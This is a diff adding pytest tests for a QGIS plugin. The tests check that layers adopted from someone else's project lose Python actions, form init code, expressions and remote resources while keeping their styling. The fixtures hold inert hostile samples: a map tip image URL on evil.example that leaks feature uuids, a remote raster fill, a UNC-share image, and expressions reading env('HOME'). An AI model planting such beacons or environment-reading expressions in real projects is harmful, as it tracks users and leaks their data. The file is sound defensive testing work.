@@ -1,0 +1,168 @@
+"""A project from someone else brings layers of the case: their look is kept, what acts or reaches out is left out."""
+
+from __future__ import annotations
+
+import pytest
+from qgis.core import (
+    QgsAction,
+    QgsDataProvider,
+    QgsDefaultValue,
+    QgsEditFormConfig,
+    QgsField,
+    QgsFillSymbol,
+    QgsPalLayerSettings,
+    QgsRasterFillSymbolLayer,
+    QgsSingleSymbolRenderer,
+    QgsVectorLayerSimpleLabeling,
+    QgsVectorLayerUtils,
+)
+from qgis.PyQt.QtCore import QVariant
+from qgis.PyQt.QtGui import QColor
+
+from plugin.canvas.adopted import leave_out
+from plugin.canvas.forms import give_form
+from plugin.canvas.source import is_at
+from plugin.case.schema import TABLES
+
+MARK = "evil"
+
+
+def add_action(layer):
+    layer.actions().addAction(QgsAction(QgsAction.ActionType.GenericPython, MARK, "import os", "", False, "", set()))
+
+
+def add_form_code(layer):
+    form = layer.editFormConfig()
+    form.setInitCodeSource(QgsEditFormConfig.PythonInitCodeSource.CodeSourceDialog)
+    form.setInitCode("def evil(dialog, layer, feature): pass")
+    form.setInitFunction("evil")
+    layer.setEditFormConfig(form)
+
+
+def add_form_file(layer):
+    form = layer.editFormConfig()
+    form.setInitCodeSource(QgsEditFormConfig.PythonInitCodeSource.CodeSourceFile)
+    form.setInitFilePath("/somewhere/evil.py")
+    layer.setEditFormConfig(form)
+
+
+def add_form_page(layer):
+    form = layer.editFormConfig()
+    form.setLayout(QgsEditFormConfig.EditorLayout.TabLayout)
+    layer.setEditFormConfig(form)
+
+
+def add_default(layer):
+    layer.setDefaultValueDefinition(
+        layer.fields().indexFromName("note"), QgsDefaultValue("env('HOME')", applyOnUpdate=True)
+    )
+
+
+def add_constraint(layer):
+    layer.setConstraintExpression(layer.fields().indexFromName("note"), "env('HOME') = 'evil'")
+
+
+def add_computed_column(layer):
+    layer.addExpressionField("env('HOME')", QgsField(MARK, QVariant.String))
+
+
+def add_map_tip(layer):
+    layer.setMapTipTemplate("<img src='http://evil.example/[% \"uuid\" %].png'>")
+
+
+def add_remote_svg(layer):
+    symbol = QgsFillSymbol()
+    fill = QgsRasterFillSymbolLayer("http://evil.example/track.png")
+    symbol.changeSymbolLayer(0, fill)
+    layer.setRenderer(QgsSingleSymbolRenderer(symbol))
+
+
+def add_label(expression):
+    def add(layer):
+        settings = QgsPalLayerSettings()
+        settings.fieldName = expression
+        settings.isExpression = True
+        layer.setLabeling(QgsVectorLayerSimpleLabeling(settings))
+        layer.setLabelsEnabled(True)
+
+    return add
+
+
+ACTS = {
+    "a Python action": (add_action, "actions"),
+    "Python that a form begins with": (add_form_code, "code or pages of its form"),
+    "a file of Python for a form": (add_form_file, "code or pages of its form"),
+    "a form with pages of its own": (add_form_page, "code or pages of its form"),
+    "a constraint": (add_constraint, "expressions for values"),
+    "a computed column": (add_computed_column, "expressions for values"),
+    "a map tip with a remote image": (add_map_tip, "map tips"),
+    "a remote image in a symbol": (add_remote_svg, "a style that reaches other files or a network"),
+    "a label that reads the machine": (add_label("env('HOME')"), "a style that reaches other files or a network"),
+    "a label that loads a layer": (add_label("load_layer('x.gpkg', 'ogr')"),
+                                   "a style that reaches other files or a network"),
+    "a label with a share": (add_label(r"'<img src=\\evil\x.png>'"), "a style that reaches other files or a network"),
+}  # fmt: skip
+
+
+@pytest.fixture
+def layer(case, layers):
+    return layers.layer("structure")
+
+
+@pytest.mark.parametrize(("add", "words"), ACTS.values(), ids=ACTS)
+def test_is_left_out_and_named(layer, add, words):
+    add(layer)
+    assert leave_out(layer, "structure") == (words,)
+    assert leave_out(layer, "structure") == ()
+    assert layer.featureCount() == 2
+
+
+def test_a_default_value_is_ours_again(layer):
+    add_default(layer)
+    leave_out(layer, "structure")
+    give_form(layer, TABLES["structure"])
+    new = QgsVectorLayerUtils.createFeature(layer)
+    assert not new["note"]
+    assert len(new["uuid"]) == 36
+
+
+@pytest.mark.parametrize("role", TABLES)
+def test_our_own_layers_have_nothing_of_it(case, layers, role):
+    assert leave_out(layers.layer(role), role) == ()
+
+
+def test_the_look_that_a_person_gave_is_kept(layer):
+    symbol = QgsFillSymbol.createSimple({"color": "#123456"})
+    layer.setRenderer(QgsSingleSymbolRenderer(symbol))
+    add_label('"label" || \' \' || "note"')(layer)
+    assert leave_out(layer, "structure") == ()
+    assert layer.renderer().symbol().color() == QColor("#123456")
+    assert layer.labeling().settings().fieldName.startswith('"label"')
+
+
+def test_a_query_is_not_taken_for_the_table(layer, case):
+    source = layer.source() + "|subset=SELECT * FROM structure WHERE label = 'A0'"
+    layer.setDataSource(source, layer.name(), "ogr", QgsDataProvider.ProviderOptions())
+    assert layer.featureCount() == 1
+    assert not is_at(layer, "structure", case.place)
+
+
+def test_opening_the_case_leaves_it_out_and_tells(case, layers, session, project):
+    path = case.path
+    layer = layers.layer("structure")
+    for add, _ in ACTS.values():
+        add(layer)
+    file = path.with_name("from someone.qgs")
+    assert project.write(str(file))
+    project.clear()
+    assert session.store is None or session.close() is None
+    told = []
+    layers.tell_left_out = told.append
+    assert project.read(str(file))
+    session.open(path)
+    adopted = layers.layer("structure")
+    assert leave_out(adopted, "structure") == ()
+    (what,) = told
+    assert "actions" in str(what.what)
+    assert adopted.actions().actions() == []
+    assert "evil" not in adopted.editFormConfig().initCode()
